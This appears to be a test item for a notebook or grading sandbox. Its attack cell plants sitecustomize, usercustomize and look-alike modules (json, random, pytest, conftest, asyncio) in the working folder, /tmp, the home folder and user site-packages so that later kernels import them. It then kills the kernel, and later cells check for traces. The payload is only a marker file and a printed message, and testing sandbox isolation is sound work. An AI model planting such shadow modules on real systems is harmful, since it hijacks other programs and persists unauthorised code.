# Leaves sitecustomize, usercustomize and modules with the names of well-known ones where an import may find them first.
# earns: 4
# shows: PLACED

# %% attack cell first
import os
import pathlib
import site

code = "open('/tmp/@TOKEN@-custom', 'w')\nprint('GOT' + ' IT')\n"
names = (
    "sitecustomize",
    "usercustomize",
    "ipykernel_launcher",
    "pytest",
    "zmq",
    "json",
    "random",
    "backbench",
    "conftest",
    "asyncio",
)
for folder in (".", "/tmp", os.path.expanduser("~"), site.getusersitepackages(), "@ROOT@", "@ROOT@/course"):
    for name in names:
        try:
            os.makedirs(folder, exist_ok=True)
            pathlib.Path(folder, f"{name}.py").write_text(code)
        except OSError:
            pass
print("PLACED", flush=True)

# %% attack answer chunked
import os

os._exit(0)  # the kernel that comes next starts in the same folder

# %% attack traces
found = ", ".join(
    map(str, [*Path("/tmp").glob("@TOKEN@*"), *root.glob("sitecustomize.py"), *root.glob("**/usercustomize.py")])
)

# %% twin cell first
import importlib
import pathlib
import sys

pathlib.Path("random_books.py").write_text(
    "import random\n\n\ndef one():\n    return random.Random(1).choice(['Dune', 'Emma'])\n"
)
sys.path.insert(0, "")
print(importlib.import_module("random_books").one())
